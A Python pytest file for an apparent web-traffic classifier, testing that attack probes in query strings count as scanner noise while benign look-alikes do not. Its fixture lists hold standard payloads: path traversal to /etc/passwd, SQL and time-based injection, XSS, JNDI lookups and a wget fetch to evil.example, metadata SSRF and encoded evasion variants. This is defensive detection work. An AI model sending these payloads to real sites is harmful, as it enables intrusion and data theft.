"""Attacks on paths that exist: scanning whatever the answer, while what people and agents ask in good faith is none."""

from collections import Counter
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest

from citepress.app.registry import table
from citepress.base.media import HTML
from citepress.settings import Settings
from citepress_telemetry.capture.route_templates import RouteTemplates
from citepress_telemetry.contract.words import SCANNING
from citepress_telemetry.identify.user_agents.probes import CATEGORIES, HOSTILE, category, examine
from support.access_log_import import START, built, combined, counts, fresh, run, written
from support.edition import leaf
from support.labelled_log import GOOGLE
from support.traffic_counter import CHROME, GPTBOT, TrafficCounter

ATTACKS = {
    "traversal": [
        "file=../../../../etc/passwd",
        "file=..\\..\\windows\\win.ini",
        "f=....//....//etc/shadow",
        "page=/..;/manager",
    ],
    "injection": [
        "id=1 union select 1,2,3--",
        "id=1/**/UNION/**/ALL/**/SELECT/**/null",
        "id=1' or '1'='1",
        "id=1 and 1=1",
        "id=1' or 1=1--",
        "user=admin'--",
        "id=1 and sleep(5)--",
        "id=1'xor(if(now()=sysdate(),sleep(15),0))xor'z",
        "id=benchmark(1000000,md5(1))",
        "id=1;drop table users",
        "id=1 waitfor delay '0:0:5'",
        "x=<script>alert(1)</script>",
        "x=<svg/onload=alert(1)>",
        "x=<img src=x onerror=alert(1)>",
        "x=${jndi:ldap://evil.example/a}",
        "x=${${lower:j}ndi:ldap://evil.example/a}",
        "name={{7*7}}",
        "name=${7*7}",
        "name=<%= 7*7 %>",
        'x=" onmouseover=alert(1) y="',
        "cmd=;wget http://evil.example/a",
        "f=x;cat /etc/hostname",
        "f=|id;",
        "f=`id`",
        "f=$(id)",
        "f=x;ls -la",
        "f=() { :; };",
        "x=<input onfocus=alert(1) autofocus>",
        "f=1&&whoami",
        "u=http://169.254.169.254/latest/meta-data/",
        "f=php://filter/convert.base64-encode/resource=index",
    ],
    "redirect": [
        "next=//evil.example",
        "next=/\\evil.example",
        "return=\\\\evil.example",
        "next=https:evil.example",
        "goto=/\t/evil.example",
    ],
    "address": ["next=https://evil.example/", "redirect_uri=http://evil.example", "file=http://evil.example/shell.txt"],
}
"""By category: what a query holds that no route here takes."""
FAITH = [
    "utm_source=chatgpt.com&utm_medium=referral&utm_campaign=select-from-the-union",
    "ref=https://news.example/item?id=1",
    "page=2&sort=asc",
    "q=or+1+more",
    "v=1.2.3..4",
    "when=2026-01-01..2026-02-01",
    "fbclid=IwAR0_-aBc",
    "title=Rock 'n' Roll & Drums; updated",
    "lang=en;q=0.9",
    "a=1&id",
    "a=1&cat",
    "a=1&id&ping",
    "tags=dog|cat",
    "tags=dog;cat;fish",
    "fields=name|id|cat",
    "fields=name;id;cat",
    "utm_campaign=benchmark(2026)",
    "utm_campaign=${date}",
    "utm_campaign=<%= name %>",
    "utm_content={{user.name}}",
    "cat=dog' and cat=tom",
    "filter=a or 1 = 1",
    "note=rest; sleep(8) hours",
    "note=sleep(8) hours or sleep(9) hours",
    "note='so'; updated",
    "note=cats; exec summary",
    "ref=//example.com",
    "utm_source=//example.com",
    "return=//posts/one/",
    "p=../x",
    "u=file:///c:/notes.html",
    "u=gopher://gopher.example/1/",
    "onerror=retry",
    "name=javascript: window.open explained",
    "title=`ls` or `id` first",
    "title=files; ls -la explained",
    "return=/page?a=1%26id",
    "note=the students' guide -- part 2",
    'quote="yes" or "no"',
    "utm_term=sleep(5)",
]
"""Queries that are no attack on any path."""
TWISTED = {
    "traversal": [
        "/a/..%c0%af..%c0%afx",
        "/a/%c0%ae%c0%ae/%c0%ae%c0%ae/x",
        "/a/..%e0%80%af..%e0%80%afx",
        "/a?f=..%255c..%255cx",
    ],
    "injection": [
        f"/?pad={'x' * 8_000}&q=%3Cscript%3E",
        f"/?q=%3Cscript%3E&pad={'x' * 60_000}",
        f"/?pad={'x' * 60_000}&q=%3Cscript%3E",
        "/?x=%25253Cscript%25253E",
        "/?id=1%0aunion%09select%0d1",
        "/?f=1%26%26whoami",
    ],
    "redirect": ["/?next=/%09/evil.example", "/?url=%252f%252fevil.example", "/?goto=%25252f%25252fevil.example"],
}
"""Targets that are written so that a simple search misses them."""
WORDS = [
    "union select 1,2,3--",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "${jndi:ldap://x.example/a}",
    "{{7*7}}",
    "//evil.example",
    "1' or '1'='1",
]
"""What a person may search for."""


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    return built(tmp_path_factory.mktemp("built"))


@pytest.fixture
def counted(tmp_path: Path) -> Iterator[TrafficCounter]:
    counter = TrafficCounter(tmp_path)
    yield counter
    counter.close()


def classes(place: Settings, folder: Path, lines: list[str]) -> dict[str, int]:
    """Requests by class after an import of these lines alone."""
    state = fresh(place, folder / "state")
    run(state, written(folder / "access.log", lines))
    totals: Counter[str] = Counter()
    for key, n in counts(state)[0].items():
        if key[0] == "traffic" and key[-1] == "n":
            totals[key[1]] += n
    return dict(totals)


def writings(query: str) -> Iterator[str]:
    """A query percent-encoded once and twice, and with plus signs."""
    name, _, value = query.partition("=")
    yield f"{name}={quote(value, safe='')}"
    yield f"{name}={quote(quote(value, safe=''), safe='')}"
    yield f"{name}={quote_plus(value)}"


@pytest.mark.parametrize("wanted", HOSTILE)
def test_an_attack_on_a_page_that_exists_is_known_live_however_it_is_written(
    counted: TrafficCounter, wanted: str
) -> None:
    home = leaf("/", HTML, "<p>home</p>", route="/", canonical="home")
    for query in ATTACKS[wanted]:
        for writing in writings(query):
            counted.ask(f"/?{writing}", CHROME, leaf=home)
            counted.ask(f"/posts/gone/?{writing}", CHROME, leaf=None, status=404)
    rows = counted.rows()
    assert {(CATEGORIES[row.probe - 1] if row.probe else "", row.route > 0) for row in rows} == {(wanted, True)}


def test_attacks_in_imported_logs_are_scanner_noise_on_pages_that_were_answered(
    place: Settings, tmp_path: Path
) -> None:
    targets = [f"/posts/one/?{next(writings(query))}" for queries in ATTACKS.values() for query in queries]
    targets += ["/posts/..%2f..%2f..%2fetc%2fpasswd", "/former/page.php?next=%2F%2Fevil.example"]
    lines = [combined(START, target, CHROME) for target in targets]
    assert classes(place, tmp_path, lines) == {"scanner_noise": len(lines)}


def test_an_attack_under_the_name_of_a_crawler_is_scanner_noise_and_reads_nothing(
    place: Settings, tmp_path: Path
) -> None:
    targets = [f"/posts/one/?{next(writings(query))}" for name in HOSTILE[:3] for query in ATTACKS[name]]
    state = fresh(place, tmp_path / "state")
    run(state, written(tmp_path / "access.log", [combined(START, target, GPTBOT) for target in targets]))
    sums, pages = counts(state)
    assert {key[1] for key in sums if key[0] == "traffic"} == {"scanner_noise"}
    assert pages == {}
    assert not [key for key in sums if key[0] == "read"]


def test_a_crawler_that_follows_a_link_with_an_address_in_it_is_a_crawler(place: Settings, tmp_path: Path) -> None:
    assert classes(place, tmp_path, [combined(START, "/posts/one/?url=https://a.example/", GOOGLE)]) == {"crawler": 1}


@pytest.mark.parametrize("wanted", TWISTED)
def test_an_attack_is_found_behind_padding_and_unusual_escapes(wanted: str) -> None:
    verdicts = [(target[:60], examine(target.encode())[0], category(target.encode())) for target in TWISTED[wanted]]
    assert verdicts == [(target[:60], wanted, wanted) for target in TWISTED[wanted]]


@pytest.mark.parametrize("query", FAITH)
def test_what_a_person_may_follow_is_no_attack_however_it_is_written(query: str) -> None:
    spellings = [
        query,
        quote(query, safe="=&+"),
        quote(query, safe="=&'()|;/:"),
        *writings(query),
        quote(query, safe=""),
    ]
    targets = [f"{path}?{spelling}" for spelling in spellings for path in ("/", "/posts/gone/")]
    assert [(target, examine(target.encode())[0]) for target in targets if examine(target.encode())[0]] == []


def test_what_is_asked_in_good_faith_is_no_attack_on_any_public_route(counted: TrafficCounter) -> None:
    paths = {route.path for route in table() if "{" not in route.path}
    for path in sorted(paths):
        for query in FAITH:
            counted.ask(f"{path}?{quote(query, safe='=&+')}", CHROME, leaf=None)
    assert {(row.probe, row.flags & 128) for row in counted.rows()} == {(0, 0)}


def test_people_search_for_attacks_and_agents_ask_about_addresses(counted: TrafficCounter) -> None:
    free = RouteTemplates(table()).free_texts
    queries = [
        (route.path, name)
        for route in table()
        for name in sorted(free(route.path) & {"query", "tag", "task", "q"})
        if route.method == "GET" and "{" not in route.path
    ]
    assert {path for path, _ in queries} >= {
        "/search/",
        "/search.json",
        "/posts/",
        "/posts.md",
        "/posts.json",
        "/agent-actions/contextualize.json",
    }
    for path, name in queries:
        for words in WORDS:
            counted.ask(f"{path}?{name}={quote(words, safe='')}", CHROME, leaf=None)
    cited = quote("https://evil.example/?next=//evil.example", safe="")
    counted.ask(f"/agent-actions/contextualize.json?url={cited}&task=union%20select", GPTBOT, leaf=None)
    rows = counted.rows()
    assert {row.probe for row in rows} == {0}
    counted.ask("/posts/?topic=../../etc/passwd", CHROME, leaf=None)
    counted.ask("/search/?query=x&next=//evil.example", CHROME, leaf=None)
    assert all(row.probe for row in counted.rows()[len(rows) :]), "a bound parameter, and one that the route has not"


def test_attacks_of_two_kinds_on_pages_that_exist_make_a_burst_of_their_network(
    place: Settings, tmp_path: Path
) -> None:
    at = [START + timedelta(seconds=number) for number in range(3)]
    lines = [
        combined(at[0], "/posts/one/?f=../../x", CHROME),
        combined(at[1], "/posts/two/?next=//evil.example", CHROME),
        combined(at[2], "/former.php", CHROME, status=503),
    ]
    assert classes(place, tmp_path, lines) == {"scanner_noise": 3}
    (tmp_path / "alone").mkdir()
    assert classes(place, tmp_path / "alone", lines[2:]) == {"machine_route": 1}


def test_the_published_rule_names_every_category_of_attacks() -> None:
    assert all(name in SCANNING for name in HOSTILE)
